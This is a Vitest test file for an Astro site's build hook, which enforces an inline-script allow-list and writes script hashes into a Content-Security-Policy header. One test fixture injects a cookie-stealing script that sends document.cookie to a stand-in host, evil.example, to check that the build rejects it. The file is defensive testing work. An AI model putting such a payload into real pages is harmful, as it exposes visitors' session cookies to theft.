import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import islandScript from 'astro/runtime/server/astro-island.prebuilt.js';
import { experimental_AstroContainer as AstroContainer } from 'astro/container';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import BaseLayout from '@/layouts/BaseLayout.astro';
import {
  ALLOWED_INLINE_SCRIPTS,
  scriptHash,
  securityHeadersFile,
  unexpectedInlineScripts,
} from '@/integrations/security-headers';
import { COLOR_MODE_SCRIPT } from '@/lib/inlineScripts';

type BuildDone = NonNullable<ReturnType<typeof securityHeadersFile>['hooks']['astro:build:done']>;

/** Runs the integration's build hook over `folder` as Astro would at the end of a build. */
async function buildDone(folder: string): Promise<void> {
  const hook = securityHeadersFile({ backendUrl: 'http://localhost:1337', cmsUrl: 'http://localhost:1337' }).hooks[
    'astro:build:done'
  ];
  if (!hook) throw new Error('the integration has no astro:build:done hook');
  const logger = { info: () => undefined, warn: () => undefined, error: () => undefined };
  await hook({ dir: pathToFileURL(`${folder}/`), logger } as unknown as Parameters<BuildDone>[0]);
}

const page = (...scripts: string[]) =>
  `<!doctype html><html><head>${scripts.map((script) => `<script>${script}</script>`).join('')}</head><body></body></html>`;

describe('the inline-script allow-list', () => {
  let dist = '';

  beforeEach(() => {
    dist = mkdtempSync(join(tmpdir(), 'studyease-csp-'));
  });

  afterEach(() => {
    rmSync(dist, { recursive: true, force: true });
  });

  test('the build fails on an inline script that is not allow-listed', async () => {
    writeFileSync(join(dist, 'index.html'), page(COLOR_MODE_SCRIPT));
    writeFileSync(
      join(dist, 'article.html'),
      page(COLOR_MODE_SCRIPT, 'fetch("https://evil.example/"+document.cookie)'),
    );
    await expect(buildDone(dist)).rejects.toThrow(/1 inline script\(s\) that are not allow-listed[\s\S]*article\.html/);
    expect(existsSync(join(dist, '_headers'))).toBe(false);
  });

  test('hashes the allow-listed scripts the build wrote into the policy, and only those', async () => {
    writeFileSync(join(dist, 'index.html'), page(COLOR_MODE_SCRIPT, islandScript));
    writeFileSync(join(dist, 'data.html'), '<script type="application/ld+json">{"a":1}</script>');
    await buildDone(dist);
    const policy = /Content-Security-Policy: (.*)/.exec(readFileSync(join(dist, '_headers'), 'utf8'))?.[1] ?? '';
    const scriptSrc = policy.split('; ').find((part) => part.startsWith('script-src')) ?? '';
    expect(scriptSrc.split(' ').sort()).toEqual(
      ['script-src', "'self'", scriptHash(COLOR_MODE_SCRIPT), scriptHash(islandScript)].sort(),
    );
  });

  test("allows Astro's island and directive scripts and ours, nothing else", () => {
    expect([...ALLOWED_INLINE_SCRIPTS.values()].sort()).toEqual([
      'Astro client:idle',
      'Astro client:load',
      'Astro client:media',
      'Astro client:only',
      'Astro client:visible',
      'Astro island',
      'app early start',
      'colour mode',
      'console error',
    ]);
    expect(unexpectedInlineScripts(page('alert(1)', COLOR_MODE_SCRIPT))).toEqual(['alert(1)']);
    // One character more is another script.
    expect(unexpectedInlineScripts(page(`${COLOR_MODE_SCRIPT} `))).toHaveLength(1);
  });

  test('every inline script the layout renders is allow-listed', async () => {
    const container = await AstroContainer.create();
    const html = await container.renderToString(BaseLayout, { request: new Request('https://studyease.example/') });
    expect(html).toContain('data-key="studyease:color-mode"');
    expect(unexpectedInlineScripts(html)).toEqual([]);
  });
});
